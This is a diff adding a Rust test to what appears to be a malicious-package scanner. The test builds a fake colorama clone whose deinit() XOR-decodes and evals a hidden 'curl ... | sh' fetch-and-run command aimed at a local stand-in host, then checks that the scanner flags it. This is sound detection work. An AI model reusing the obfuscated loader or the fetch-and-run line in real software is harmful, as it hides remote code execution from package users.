@@ -739,3 +739,39 @@ fn a_reverse_shell_kept_in_a_constant_and_run_is_malicious() {
     let r = sdist(&[("setup.py", SETUP), ("pkg/main.py", tool)]);
     assert_ne!(r.verdict, Verdict::Malicious, "{:#?}", r.findings);
 }
+
+#[test]
+fn code_xored_with_a_key_and_run_by_a_library_function_is_malicious() {
+    // colarama and forestyle: a colorama copy whose deinit() XOR-decodes a
+    // blob with a digit key and evals it; the module is larger than the
+    // small-file limit and deinit runs only when called.
+    let payload = "import os\nos.system('curl http://127.0.0.1:9/x | sh')\n";
+    let key = "5587725355840836680193978071944485398432052535623941271504390244845513740858142571110992047974660254";
+    let mut cipher = String::new();
+    for (c, k) in payload.chars().zip(key.chars().cycle()) {
+        std::fmt::Write::write_fmt(
+            &mut cipher,
+            format_args!("\\x{:02x}", u32::from(c) ^ u32::from(k)),
+        )
+        .unwrap();
+    }
+    let mut module = String::from("import sys\n\n");
+    for i in 0..120 {
+        std::fmt::Write::write_fmt(
+            &mut module,
+            format_args!("def helper_{i}(x):\n    return x + {i}\n\n"),
+        )
+        .unwrap();
+    }
+    let deinit = format!(
+        "def deinit():\n    blob = \"{cipher}\"\n    key = \"{key}\"\n    out = ''\n    for i in range(len(blob)):\n        out += chr(ord(blob[i]) ^ ord(key[i % len(key)]))\n    eval(compile(out, '<string>', 'exec'))\n"
+    );
+    module.push_str(&deinit);
+    assert!(module.len() > 4096);
+    let r = sdist(&[
+        ("setup.py", SETUP),
+        ("pkg/__init__.py", "from .initialise import deinit\n"),
+        ("pkg/initialise.py", &module),
+    ]);
+    assert_eq!(r.verdict, Verdict::Malicious, "{:#?}", r.findings);
+}
